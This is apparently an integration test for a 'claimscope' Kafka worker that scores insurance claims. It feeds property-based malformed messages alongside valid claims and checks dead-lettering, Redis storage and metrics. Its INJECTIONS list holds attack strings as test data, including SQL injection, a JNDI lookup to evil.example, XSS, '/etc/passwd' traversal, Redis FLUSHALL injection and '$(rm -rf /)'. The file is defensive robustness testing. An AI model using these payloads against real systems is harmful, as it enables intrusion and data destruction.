"""Hostile input against a real worker: a property-based corpus of malformed messages,
interleaved with valid claims, through Tansu and one `claimscope worker`.

The corpus comes from hypothesis strategies (seeded, so a failure reproduces: set
CLAIMSCOPE_HOSTILE_SEED to explore others) plus fixed extremes hypothesis cannot draw
cheaply (10 MB payloads, a 100,000-deep nesting, a 900 KB key). What each message should
become is decided by the contract itself (`model.claims.parse_claim`) and the size limit:
- not a valid claim (or null, or above `max_message_bytes`) -> exactly one dead letter at
  its partition/offset, with a reason and the raw bytes (or their first
  `deadletter_raw_bytes`);
- a valid claim, however odd (injection-looking text, control characters in free text) ->
  a Score on the scored topic and in Redis, the claim stored verbatim;
and the worker never dies. Its /metrics must count exactly what happened.
"""

from __future__ import annotations

import base64
import json
import os
import random
import time
from collections import Counter
from collections.abc import Callable

import pytest
import redis
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from kafka import KafkaConsumer, KafkaProducer
from pydantic import ValidationError

from model.claims import parse_claim
from model.generator import ClaimGenerator
from stream.settings import Settings

pytestmark = pytest.mark.integration

SEED = int(os.environ.get("CLAIMSCOPE_HOSTILE_SEED", "20261126"))
N_HOSTILE = 1_600  # examples hypothesis runs; duplicates dropped, fixed extremes added
N_VALID = 800
BASE = [lc.claim for lc in ClaimGenerator(seed=61, fraud_rate=0.1).generate(200)]
REQUIRED = ("claim_id", "member_id", "provider_id", "provider_specialty", "member_age",
            "member_sex", "service_date", "submitted_at", "place_of_service", "diagnoses",
            "total_charge")
FIELDS = (*REQUIRED, "procedures", "medications", "description")
INJECTIONS = (
    "'; DROP TABLE claims; --", "\" OR \"1\"=\"1", "{{7*7}}", "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>", "../../../../etc/passwd", "*1\r\n$8\r\nFLUSHALL\r\n",
    "cs:claim:*", "$(rm -rf /)", "`id`", "%00%0a", "__proto__", '{"$gt": ""}', "%n%n%n%s",
    "redis.call('FLUSHALL')", "\u202egnp.exe", "A" * 5000, "🦠" * 100, "\\x00\\ud800",
)
BAD_UTF8 = (b"\xff", b"\xfe\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\x80", b"\xe2\x82",
            b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80")


def dumps(obj: object) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode()


def put(c: dict, path: tuple, value: object) -> dict:
    """A deep-enough copy of claim `c` with `path` (keys/indexes) set to `value`."""
    d = json.loads(json.dumps(c))
    target = d
    for p in path[:-1]:
        target = target[p]
    target[path[-1]] = value
    return d


# -- strategies ---------------------------------------------------------------------------
base = st.sampled_from(BASE)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**20), 10**20)
    | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20),
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.text(max_size=5), kids,
                                                              max_size=3),
    max_leaves=6)
paths = st.sampled_from([(f,) for f in FIELDS] + [
    ("procedures", 0, "units"), ("procedures", 0, "charge"), ("procedures", 0, "code"),
    ("procedures", 0, "modifiers"), ("medications", 0, "strength_mg"),
    ("medications", 0, "name"), ("diagnoses", 0)])


def _has(c: dict, path: tuple) -> bool:
    try:
        t = c
        for p in path[:-1]:
            t = t[p]
        return isinstance(t, dict) or (isinstance(t, list) and len(t) > path[-1])
    except (KeyError, IndexError, TypeError):
        return False


@st.composite
def not_json(draw: st.DrawFn) -> bytes:
    raw = dumps(draw(base))
    how = draw(st.sampled_from(["truncated", "garbage", "trailing", "quotes", "empty"]))
    if how == "truncated":
        return raw[:draw(st.integers(0, len(raw) - 1))]
    if how == "garbage":
        return draw(st.binary(max_size=300))
    if how == "trailing":
        return raw + draw(st.sampled_from([b"x", b",", b"}", b"{}", b"\x00", b" ]"]))
    if how == "quotes":
        return raw.replace(b'"', b"'")
    return b""


@st.composite
def wrong_type(draw: st.DrawFn) -> bytes:
    c, path = draw(base), draw(paths)
    if not _has(c, path):
        path = ("member_age",)
    return dumps(put(c, path, draw(json_values)))


@st.composite
def missing(draw: st.DrawFn) -> bytes:
    c = dict(draw(base))
    for f in draw(st.sets(st.sampled_from(REQUIRED), min_size=1)):
        c.pop(f)
    return dumps(c)


@st.composite
def huge_list(draw: st.DrawFn) -> bytes:
    c = draw(base)
    field = draw(st.sampled_from(["diagnoses", "procedures", "medications", "modifiers"]))
    n = draw(st.integers(13, 3000))
    if field == "diagnoses":
        return dumps(put(c, ("diagnoses",), [f"E{i % 90 + 10}.{i % 10}" for i in range(n)]))
    line = {"code": "99213", "units": 1, "charge": "1.00", "modifiers": []}
    if field == "modifiers":
        return dumps(put(c, ("procedures",), [{**line, "modifiers": ["25"] * n}]))
    if field == "medications":
        line = {"name": "metformin", "strength_mg": 500, "quantity": 30, "days_supply": 30,
                "charge": "1.00"}
    return dumps(put(c, (field,), [line] * (n + 40)))


@st.composite
def deep(draw: st.DrawFn) -> bytes:
    depth = draw(st.integers(64, 20_000))
    opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
    blob = (opener * depth + "1" + closer * depth).encode()
    where = draw(st.sampled_from(["top", "description", "diagnoses", "extra"]))
    if where == "top":
        return blob
    raw = dumps(draw(base))
    if where == "diagnoses":
        return raw.replace(b'"diagnoses": [', b'"diagnoses": [' + blob + b", ", 1)
    return raw[:-1] + b', "' + where.encode() + b'": ' + blob + b"}"


@st.composite
def bad_utf8(draw: st.DrawFn) -> bytes:
    raw = dumps(draw(base))
    at = draw(st.integers(0, len(raw)))
    return raw[:at] + draw(st.sampled_from(BAD_UTF8)) + raw[at:]


@st.composite
def control_chars(draw: st.DrawFn) -> bytes:
    c = draw(base)
    ch = chr(draw(st.sampled_from([*range(0x20), 0x7F])))
    how = draw(st.sampled_from(["raw", "escaped_id", "escaped_text"]))
    if how == "raw":  # an unescaped control character inside a JSON string: not JSON
        raw = dumps(c)
        at = raw.index(b'"claim_id": "') + len(b'"claim_id": "')
        return raw[:at] + ch.encode() + raw[at:]
    if how == "escaped_id":  # valid JSON, but outside the id charset
        return dumps(put(c, ("member_id",), c["member_id"] + ch))
    return dumps(put(c, ("description",), f"line one{ch}line two\u0000\u2028"))


@st.composite
def injection(draw: st.DrawFn) -> bytes:
    c, text = draw(base), draw(st.sampled_from(INJECTIONS))
    path = draw(st.sampled_from([("claim_id",), ("member_id",), ("provider_id",),
                                 ("provider_specialty",), ("place_of_service",),
                                 ("diagnoses", 0), ("description",), ("medications", 0, "name"),
                                 ("procedures", 0, "code"), (text[:50],)]))
    if not _has(c, path):
        path = ("description",)
    return dumps(put(c, path, text))


@st.composite
def numbers(draw: st.DrawFn) -> bytes:
    c = draw(base)
    raw = dumps(c)
    how = draw(st.sampled_from(["age", "huge", "charge", "units", "inf"]))
    if how == "age":
        return dumps(put(c, ("member_age",), draw(st.sampled_from(
            [-1, 121, 1.5, "12", True, 10**30]))))
    if how == "huge":  # a 5,000-digit number
        return raw.replace(b'"member_age": ', b'"member_age": ' + b"9" * 5000 + b", \"x\": ", 1)
    if how == "inf":
        return raw.replace(b'"total_charge": ', b'"total_charge": 1e400, "y": ', 1)
    if how == "units" and c.get("procedures"):
        return dumps(put(c, ("procedures", 0, "units"), draw(st.sampled_from([0, 1000, -5]))))
    total = float(c["total_charge"]) + draw(st.sampled_from([0.02, 1.0, -0.5, 1e9]))
    return dumps(put(c, ("total_charge",), f"{total:.2f}"))


@st.composite
def top_level(draw: st.DrawFn) -> bytes:
    return draw(st.sampled_from([b"[]", b"null", b'"claim"', b"42", b"true", b"{}", b"[{}]",
                                 dumps([BASE[0]]), dumps({"claim": BASE[0]})]))


@st.composite
def extra_field(draw: st.DrawFn) -> bytes:
    c = draw(base)
    name = draw(st.text(min_size=1, max_size=12).filter(lambda n: n not in FIELDS))
    return dumps(put(c, (name,), draw(json_values)))


KINDS = {"not_json": not_json(), "wrong_type": wrong_type(), "missing": missing(),
         "huge_list": huge_list(), "deep": deep(), "bad_utf8": bad_utf8(),
         "control_chars": control_chars(), "injection": injection(), "numbers": numbers(),
         "top_level": top_level(), "extra_field": extra_field(), "null": st.none()}
keys = st.one_of(st.none(), st.binary(max_size=64), st.just(b"M-1"))


def hostile_corpus() -> list[tuple[str, bytes | None, bytes | None]]:
    """(kind, key, value) of each distinct value hypothesis drew, in its order."""
    out: list[tuple[str, bytes | None, bytes | None]] = []
    seen: set[bytes | None] = set()

    @seed(SEED)
    @settings(max_examples=N_HOSTILE, database=None, deadline=None, derandomize=False,
              phases=[Phase.generate], suppress_health_check=list(HealthCheck))
    @given(kind=st.sampled_from(sorted(KINDS)), data=st.data(), key=keys)
    def collect(kind: str, data: st.DataObject, key: bytes | None) -> None:
        value = data.draw(KINDS[kind])
        if value not in seen:
            seen.add(value)  # (Kafka takes no message without both key and value)
            out.append((kind, key if value is not None else key or b"tombstone", value))

    collect()
    return out


def extremes(limit: int) -> list[tuple[str, bytes | None, bytes | None]]:
    """What hypothesis does not draw cheaply: 10 MB, just over/under the limit, 100k deep."""
    rng = random.Random(SEED)
    c = BASE[0]
    ten_mb = dumps({**c, "description": "x" * (10 * 1024 * 1024)})
    return [
        ("ten_mb_claim", c["member_id"].encode(), ten_mb),
        ("ten_mb_random", None, rng.randbytes(10 * 1024 * 1024)),
        ("over_limit", b"k", b"[" + b" " * limit + b"]"),
        ("under_limit", b"k", dumps({**c, "description": "y" * (limit - 2_000)})),
        ("deep_100k", b"k", b"[" * 100_000),
        ("diagnoses_100k", b"k", dumps({**c, "diagnoses": ["E11.9"] * 100_000})),
        ("huge_key_bad", b"K" * 900_000, b"{not json"),
    ]


def verdict(value: bytes | None, limit: int) -> str | None:
    """None for a valid claim, else why it must be dead-lettered (the contract decides)."""
    if value is None:
        return "null value"
    if len(value) > limit:
        return "payload too large"
    try:
        parse_claim(value)
    except ValidationError:
        return "invalid"
    return None


# -- the test -----------------------------------------------------------------------------
def read_all(s: Settings, topic: str) -> list:
    c = KafkaConsumer(topic, bootstrap_servers=s.bootstrap_servers, group_id=None,
                      auto_offset_reset="earliest", consumer_timeout_ms=3000,
                      fetch_max_bytes=64 * 1024 * 1024,
                      max_partition_fetch_bytes=64 * 1024 * 1024)
    out = list(c)
    c.close()
    return out


def wait_until(what: str, check: Callable[[], bool], timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout:.0f} s waiting for {what}")
        time.sleep(0.5)


def test_hostile_corpus_dead_letters_every_bad_message_and_scores_every_valid_one(
        namespace: Settings, worker, capsys: pytest.CaptureFixture, prom) -> None:
    import urllib.request

    s, limit = namespace, namespace.max_message_bytes
    corpus = hostile_corpus() + extremes(limit)
    verdicts = [verdict(v, limit) for _, _, v in corpus]
    bad = sum(v is not None for v in verdicts)
    assert bad >= 1_000, f"only {bad} distinct malformed messages in the corpus"

    valid = [lc.claim for lc in ClaimGenerator(seed=62, fraud_rate=0.1).generate(N_VALID)]
    stream = [("valid", c["member_id"].encode(), dumps(c)) for c in valid] + corpus
    random.Random(SEED).shuffle(stream)  # interleaved
    producer = KafkaProducer(bootstrap_servers=s.bootstrap_servers, linger_ms=5,
                             max_request_size=32 * 1024 * 1024)
    futures = [producer.send(s.topic_claims, key=k, value=v) for _, k, v in stream]
    producer.flush(120)
    where = {}
    for (kind, _, value), f in zip(stream, futures, strict=True):
        md = f.get(30)
        where[(md.partition, md.offset)] = (kind, value, verdict(value, limit))
    producer.close()
    want_dead = {at for at, (_, _, why) in where.items() if why is not None}
    want_ids = Counter(json.loads(v)["claim_id"] for _, v, why in where.values() if why is None)

    pid = worker.pid
    wait_until("every message handled", lambda: (st_ := worker.stats()) is not None and (
        st_["scored"] + st_["deadletters"] >= len(stream)), 240)
    stats = worker.stats()
    assert worker.alive() and worker.pid == pid, "the worker died"
    assert (stats["received"], stats["deadletters"], stats["scored"]) == (
        len(stream), len(want_dead), sum(want_ids.values()))

    dead = {}
    for m in read_all(s, s.topic_deadletter):
        d = json.loads(m.value)
        at = (d["partition"], d["offset"])
        assert at not in dead, f"two dead letters for {at}"
        assert len(m.key or b"") <= 1024, "a dead letter keeps at most 1 KiB of the key"
        dead[at] = d
    assert set(dead) == want_dead
    for at, d in dead.items():
        kind, value, why = where[at]
        value = value or b""
        assert d["error"].strip(), (kind, value[:80])
        assert d["topic"] == s.topic_claims and d["size"] == len(value)
        kept = d["raw"].encode() if d["raw_encoding"] == "utf-8" else base64.b64decode(d["raw"])
        assert value.startswith(kept) and d["truncated"] == (len(kept) < len(value)), kind
        assert len(kept) >= min(len(value), s.deadletter_raw_bytes) - 3, kind
        if why != "invalid":
            assert why in d["error"], (kind, d["error"])
        elif kind == "bad_utf8":
            assert "not UTF-8" in d["error"], d["error"]
        elif kind == "missing":
            assert "Field required" in d["error"], d["error"]
        elif kind == "extra_field":
            assert "Extra inputs are not permitted" in d["error"], d["error"]
        assert len(d["error"]) < 8_000, "a reason is a line, not a dump"

    scored = [json.loads(m.value) for m in read_all(s, s.topic_scored)]
    assert Counter(x["claim_id"] for x in scored) == want_ids  # nothing bad got through
    r = redis.Redis.from_url(s.redis_url)
    sent: dict[str, list] = {}  # claim_id -> the valid claims sent with it (odd ones reuse ids)
    for _, value, why in where.values():
        if why is None:
            sent.setdefault(json.loads(value)["claim_id"], []).append(json.loads(value))
    for cid, versions in sent.items():  # stored verbatim, hostile text included
        assert json.loads(r.get(f"{s.key_prefix}claim:{cid}"))["claim"] in versions
    stray = [k for k in r.scan_iter(match=f"{s.key_prefix}*", count=5000)
             if not k.decode().removeprefix(s.key_prefix).startswith(
                 ("claim:", "recent", "flagged", "member:", "provider:", "check:",
                  "profile:"))]
    assert not stray, stray[:5]

    with urllib.request.urlopen(f"http://127.0.0.1:{worker.port}/metrics", timeout=5) as resp:
        text = resp.read().decode()
    m = prom(text)
    assert m["claimscope_received_total"] == len(stream)
    assert m["claimscope_deadletters_total"] == len(want_dead)
    assert m["claimscope_scored_total"] == sum(want_ids.values())
    assert m["claimscope_flagged_total"] == sum(x["flagged"] for x in scored)

    kinds = Counter(kind for kind, _, _ in corpus)
    with capsys.disabled():
        print(f"\n    hostile corpus (seed {SEED}): {len(corpus)} hostile messages "
              f"({bad} malformed, {len(corpus) - bad} odd but valid) among {len(valid)} "
              f"valid claims: {len(want_dead)} dead-lettered, {sum(want_ids.values())} "
              f"scored, worker alive; by kind {dict(sorted(kinds.items()))}")
